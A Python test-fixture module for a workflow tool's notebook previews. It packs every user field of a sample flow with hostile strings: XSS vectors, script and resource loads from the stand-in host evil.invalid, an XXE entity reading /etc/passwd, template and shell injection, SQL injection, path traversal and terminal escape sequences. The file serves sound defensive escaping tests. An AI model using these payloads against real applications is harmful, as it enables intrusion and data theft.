"""Texts that would act rather than show, and a flow and a run in which every text is such a one.

Each would set `window.pwned`, fetch from `evil.invalid`, or move a terminal's cursor.
"""

from __future__ import annotations

from dagy.drawing import RunStill, TaskStill
from dagy.spec import FlowSpec, FromTask, TaskOptions, TaskSpec
from dagy.states import State, completed, failed
from dagy_nb.previews import preview_of, still_previews

ACT = "window.pwned=1"
AWAY = "http://evil.invalid/x"

MARKUP = [
    f"<script>{ACT}</script>",
    f"</script><script>{ACT}</script>",
    f"<SCRIPT SRC={AWAY}></SCRIPT>",
    f"<scr<script>ipt>{ACT}</scr</script>ipt>",
    f"<script\x20type='text/javascript'>{ACT};</script >",
    f"<img src=x onerror={ACT}>",
    f"<img src=`x`onerror={ACT}>",
    f"<img/src=x/onerror={ACT}//",
    f'"><img src=x onerror={ACT}>',
    f"'><img src=x onerror={ACT}>",
    f'" onmouseover="{ACT}" x="',
    f"' autofocus onfocus='{ACT}",
    f"<svg onload={ACT}>",
    f"<svg><script>{ACT}</script></svg>",
    f"<svg><animate onbegin={ACT} attributeName=x dur=1s>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={ACT}>#x'/></svg>",
    f"<svg><foreignObject><body onload={ACT}></foreignObject></svg>",
    f"<svg><a xlink:href='javascript:{ACT}'><text>x</text></a></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={ACT}>",
    f"<iframe src='javascript:{ACT}'></iframe>",
    f'<iframe srcdoc="<script>parent.{ACT}</script>"></iframe>',
    f"<object data='data:text/html,<script>{ACT}</script>'></object>",
    f"<embed src='{AWAY}'>",
    f"<img src='{AWAY}'>",
    f"<img srcset='{AWAY} 2x'>",
    f"<p style='background:url({AWAY})'>x</p>",
    f"<table background='{AWAY}'><tr><td>x</table>",
    f"<a href='#' ping='{AWAY}'>x</a>",
    f"<link rel=stylesheet href={AWAY}>",
    f"<base href='{AWAY}/'>",
    f"<meta http-equiv=refresh content='0;url={AWAY}'>",
    f"<form action={AWAY}><input type=submit autofocus></form>",
    f"<details open ontoggle={ACT}>",
    f"<video><source onerror={ACT}></video>",
    f"<body onload={ACT}>",
    f"<marquee onstart={ACT}>",
    f"<input autofocus onfocus={ACT}>",
    f"<template><script>{ACT}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={ACT}>'>",
    f"<textarea></textarea><script>{ACT}</script>",
    f"</textarea></title></style><img src=x onerror={ACT}>",
    f"</pre></details></td></table><script>{ACT}</script>",
    f"<a href='javascript:{ACT}'>x</a>",
    f"<a href=' &#1;java&Tab;script&colon;{ACT}'>x</a>",
    f"<!--><script>{ACT}</script>-->",
    f"<![CDATA[<script>{ACT}</script>]]>",
    f"]]><script>{ACT}</script>",
    f"<?xml version='1.0'?><?xml-stylesheet href='{AWAY}'?>",
    '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;',
    f"&lt;script&gt;{ACT}&lt;/script&gt;",
    f"&#60;script&#62;{ACT}&#60;/script&#62;",
    f"\\u003cscript\\u003e{ACT}\\u003c/script\\u003e",
    f"+ADw-script+AD4-{ACT}+ADw-/script+AD4-",
    f"%3Cscript%3E{ACT}%3C/script%3E",
    f"＜script＞{ACT}＜/script＞",
]
STYLE = [
    f"</style><style>*{{background:url({AWAY})}}</style>",
    f"x;background:url({AWAY});color:red",
    f"expression({ACT})",
    f"@import '{AWAY}';",
    "}*{display:none}",
]
TEMPLATE = [
    "{{7*7}}{{constructor.constructor('window.pwned=1')()}}",
    "${window.pwned=1}",
    "`${window.pwned=1}`",
    "<%= system('touch canary') %>",
    "{0.__class__.__init__.__globals__}",
    "%(x)s %s %n %d",
    "$(touch canary) `touch canary`",
    "\\');window.pwned=1;//",
    '\\");window.pwned=1;//',
    "*/window.pwned=1;/*",
    "__proto__",
    "constructor",
]
TEXT = [
    f"[x](javascript:{ACT}) ![x]({AWAY})",
    f"$\\href{{javascript:{ACT}}}{{x}}$",
    "# heading\n\n- list\n\n```\ncode",
    '"];x[URL="javascript:window.pwned=1",label="',
    "<<TABLE><TR><TD><IMG SRC='/etc/passwd'/></TD></TR></TABLE>>",
    "\\N\\G\\L\\l\\r",
    "a\u2028window.pwned=1\u2029b",
    "\u202egnp.exe\u202c \u2066x\u2069",
    "zero\u200bwidth\u200d\u2060\ufeff",
    "\x1b[2J\x1b[1;1Hcleared",
    "\x1b]0;a new title\x07",
    "\x1b]8;;http://evil.invalid\x1b\\link\x1b]8;;\x1b\\",
    "\x1b]52;c;bmFzdHk=\x07",
    "\x1bP+q544e\x1b\\ \x1b[6n \x9b31m \x90x\x9c",
    "over\rwritten\b\b\b\x7f",
    "null\0\x01\x02\x05\x0e\x0f\x18",
    "half \ud83d and \udc00 of one",
    "\ufffe\uffff\U0010ffff\U000e0041",
    "a" * 20_000,
    "Z" + "\u0300" * 2_000,
    "\n" * 500 + "far below",
    "'; drop table runs; --",
    "../../../etc/passwd",
    "error: all is well\ndone: 0",
]
PAYLOADS = [*MARKUP, *STYLE, *TEMPLATE, *TEXT]


def flow(payload: str) -> FlowSpec:
    """A flow in which everything that is the user's is `payload`."""
    options = TaskOptions(executor=None)
    first = TaskSpec("a", payload, f"m:{payload}", description=payload, group=(payload,), options=options)
    second = TaskSpec("b", f"{payload} 2", "m:f", {payload: FromTask("a")}, group=(payload,))
    return FlowSpec(payload, description=payload, tasks=(first, second))


def still(payload: str, *, acts: bool = True) -> RunStill:
    spec = flow(payload)
    previews = {
        "a": [preview_of({"text/html": payload if acts else "x"}), preview_of({"text/plain": payload})],
        "b": [preview_of({"image/svg+xml": f"<svg>{payload}</svg>"}), preview_of({"image/png": payload})],
    }
    shown = still_previews({task: [each for each in found if each] for task, found in previews.items()})

    def task(name: str, state: State) -> TaskStill:
        return TaskStill(name, spec.task(name).name, state, 1, 1.0, payload, payload, shown.get(name, ""))

    tasks = (task("a", completed()), task("b", failed(payload)))
    return RunStill(spec, payload, failed(payload), 1.0, tasks, payload)
